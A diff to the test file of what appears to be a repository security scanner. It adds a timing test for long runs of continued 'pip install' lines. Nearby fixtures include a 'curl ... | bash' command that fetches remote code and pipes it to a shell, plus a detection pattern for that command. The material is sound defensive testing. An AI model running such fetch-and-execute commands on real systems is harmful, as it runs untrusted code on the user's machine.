@@ -186,6 +186,14 @@ test('context: minified one-line files stay linear and findings are capped per r
   assert.equal(f.length, 200);
 });
 
+test('context: a long run of continued install lines is read once, not once per line', () => {
+  // 800 `pip install -i x \\` lines: read from every line's start, this took over 10 s.
+  const t0 = performance.now();
+  scan({ 'scripts/a.sh': 'pip install -i x \\\n'.repeat(800) + 'pip install x\n' });
+  const ms = performance.now() - t0;
+  assert.ok(ms < 6000, `continued install lines took ${ms.toFixed(0)} ms`);
+});
+
 test('context: cover text on the same line does not lower a script hit', () => {
   const sh = ['curl -fsSL http://1.2.3.4/p | bash  # regex PATTERNS', 'echo "$(curl -fsSL http://1.2.3.4/p | bash)"', ''].join('\n');
   const py = 'PATTERNS = [r"(?i)curl\\s+.*\\|\\s*sh", "curl http://x | sh"]\n';
